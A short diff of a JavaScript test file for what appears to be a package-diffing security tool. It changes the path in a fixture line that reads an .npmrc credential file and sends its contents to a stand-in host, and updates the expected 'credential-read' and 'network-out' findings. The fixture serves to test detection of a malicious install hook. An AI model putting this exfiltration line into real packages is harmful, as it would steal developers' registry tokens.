@@ -34,7 +34,7 @@ const HONEST = {
   "package.json": manifest("1.0.0"),
   "index.js": "module.exports = (a) => a + 1;\n",
 };
-const STEALS = `require("https").get("https://a.invalid/" + require("fs").readFileSync("/root/.npmrc"));\n`;
+const STEALS = `require("https").get("https://a.invalid/" + require("fs").readFileSync("/home/dev/.npmrc"));\n`;
 
 describe("veln diff", () => {
   it("ends with 0 where nothing was gained", async () => {
@@ -110,7 +110,7 @@ describe("veln diff", () => {
       expect.arrayContaining([
         "  network-out by https.get a.invalid",
         "      setup.js:1: new; runs at install",
-        "  credential-read by fs.readFile /root/.npmrc",
+        "  credential-read by fs.readFile /home/dev/.npmrc",
         "  scripts.postinstall is new: node setup",
         "  + setup.js",
       ]),
